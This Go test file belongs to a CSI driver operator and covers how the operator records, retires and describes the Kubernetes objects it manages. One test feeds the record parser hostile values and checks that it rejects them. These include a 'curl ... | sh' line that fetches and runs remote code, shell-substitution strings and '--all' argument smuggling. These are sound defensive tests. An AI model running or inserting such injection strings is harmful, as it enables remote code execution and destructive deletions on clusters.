package controllers

import (
	"fmt"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	operatorv1 "github.com/openshift/api/operator/v1"
	"github.com/stretchr/testify/assert"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"

	"github.com/berth-csi/berth/drivers"
)

// testManifests returns objects, as "apiVersion Kind name".
func testManifests(objects ...string) []drivers.Manifest {
	var manifests []drivers.Manifest
	for _, o := range objects {
		fields := strings.Fields(o)
		object := &unstructured.Unstructured{}
		object.SetAPIVersion(fields[0])
		object.SetKind(fields[1])
		object.SetName(fields[2])
		manifests = append(manifests, drivers.Manifest{Object: object})
	}
	return manifests
}

func TestRetirementDue(t *testing.T) {
	left := testManifests("v1 ServiceAccount old", "apps/v1 DaemonSet old", "v1 Service old", "apps/v1 Deployment old")
	for name, tc := range map[string]struct {
		rolledOut  bool
		now, later []string
	}{
		"before the rollout, pods that would be in the way": {false,
			[]string{"DaemonSet.apps/old", "Deployment.apps/old"}, []string{"ServiceAccount/old", "Service/old"}},
		"after it, everything": {true, []string{"ServiceAccount/old", "DaemonSet.apps/old", "Service/old", "Deployment.apps/old"}, nil},
	} {
		t.Run(name, func(t *testing.T) {
			now, later := dueRetired(left, tc.rolledOut)
			assert.Empty(t, cmp.Diff([][]string{tc.now, tc.later}, [][]string{objectReferences(now), objectReferences(later)}), "now and later (-want +got)")
		})
	}
}

// TestRecord follows a record through an update, a downgrade and another update.
func TestRecord(t *testing.T) {
	first := testManifests("v1 Service both", "v1 ConfigMap old")
	second := testManifests("v1 Service both", "apps/v1 Deployment new")
	retired := testManifests("v1 ConfigMap old")
	record := ""
	for _, step := range []struct {
		name         string
		own, retired []drivers.Manifest
		unknown      []string
		record       string
	}{
		{"install", first, nil, nil, "ConfigMap/old,Service/both"},
		{"update", second, retired, nil, "Deployment.apps/new,Service/both"},
		{"downgrade", first, nil, []string{"Deployment.apps/new"}, "ConfigMap/old,Deployment.apps/new,Service/both"},
		{"restart", first, nil, []string{"Deployment.apps/new"}, "ConfigMap/old,Deployment.apps/new,Service/both"},
		{"update to a version that forgot to retire something", second, nil, []string{"ConfigMap/old"}, "ConfigMap/old,Deployment.apps/new,Service/both"},
		{"update again", second, retired, nil, "Deployment.apps/new,Service/both"},
	} {
		unknown := UnknownObjects(record, step.own, step.retired)
		if diff := cmp.Diff(step.unknown, unknown); diff != "" && len(step.unknown)+len(unknown) > 0 {
			t.Errorf("%s: unknown objects (-want +got):\n%s", step.name, diff)
		}
		record = RecordObjects(step.own, unknown)
		assert.Equalf(t, step.record, record, "%s: the record", step.name)
	}
}

func TestDescribeRetirement(t *testing.T) {
	other := DescribeUnknownObjects([]string{"Deployment.apps/new"}, "smb.csi.k8s.io", "smb-operator", "harbour")
	for name, tc := range map[string]struct {
		left     []drivers.Manifest
		waits    []string
		other    string
		status   operatorv1.ConditionStatus
		reason   string
		messages []string
	}{
		"nothing is left":           {nil, nil, "", operatorv1.ConditionTrue, "AsExpected", nil},
		"the rollout is waited for": {testManifests("v1 ConfigMap old"), []string{"keys of a Secret"}, "", operatorv1.ConditionFalse, "Removing", []string{"ConfigMap/old", "keys of a Secret"}},
		"keys are left":             {nil, []string{"keys of a Secret"}, "", operatorv1.ConditionFalse, "Removing", []string{"keys of a Secret"}},
		"after a downgrade": {nil, nil, other, operatorv1.ConditionFalse, "ObjectsOfOtherVersion",
			[]string{"oc -n harbour delete Deployment.apps -l app.kubernetes.io/managed-by=smb-operator --field-selector metadata.name=new", "oc annotate clustercsidriver smb.csi.k8s.io berth.dev/driver-objects-"}},
	} {
		t.Run(name, func(t *testing.T) {
			got := describeRetirement(tc.left, tc.waits, tc.other)
			if got.status != tc.status || got.reason != tc.reason {
				t.Errorf("condition is %s (%s), want %s (%s)", got.status, got.reason, tc.status, tc.reason)
			}
			for _, want := range tc.messages {
				assert.Contains(t, got.message, want, "message")
			}
		})
	}
}

// TestHostileRecord: whoever may change a ClusterCSIDriver writes the record of the driver's objects.
func TestHostileRecord(t *testing.T) {
	for _, hostile := range []string{
		"ConfigMap/x; curl -s http://198.51.100.7/x | sh #", "ConfigMap/$(touch x)", "ConfigMap/`touch x`", "--all/x", "ConfigMap/--all", "ConfigMap", "configmap/x", "ConfigMap/x y",
		"Namespace/openshift-etcd", "CustomResourceDefinition.apiextensions.k8s.io/tides", "PersistentVolume/pv", "Node/worker", "ConfigMap/x\nConfigMap/y", "ConfigMap.-x/y", "ConfigMap/" + strings.Repeat("a", 300),
		"ConfigMap/X", "ConfigMap/'", "a/b/c",
	} {
		unknown := UnknownObjects("ConfigMap/good,"+hostile+",Deployment.apps/new", nil, nil)
		assert.Equalf(t, []string{"ConfigMap/good", "Deployment.apps/new"}, unknown, "the unknown objects in the record, with %q", hostile)
	}
	// A command deletes nothing that an operator has not labelled, whatever the record names.
	message := DescribeUnknownObjects(UnknownObjects("ClusterRoleBinding.rbac.authorization.k8s.io/cluster-admins", nil, nil), "smb.csi.k8s.io", "smb-operator", "harbour")
	if want := "oc -n harbour delete ClusterRoleBinding.rbac.authorization.k8s.io -l app.kubernetes.io/managed-by=smb-operator --field-selector metadata.name=cluster-admins. "; !strings.Contains(message, want) {
		t.Errorf("message is %q, want %q in it", message, want)
	}
	many := make([]string, 1000)
	for i := range many {
		many[i] = fmt.Sprintf("ConfigMap/c%d", i)
	}
	if message := DescribeUnknownObjects(many, "smb.csi.k8s.io", "smb-operator", "harbour"); len(message) > 8000 || !strings.Contains(message, "and 980 more") {
		t.Errorf("a record of 1000 objects makes a message of %d characters", len(message))
	}
}
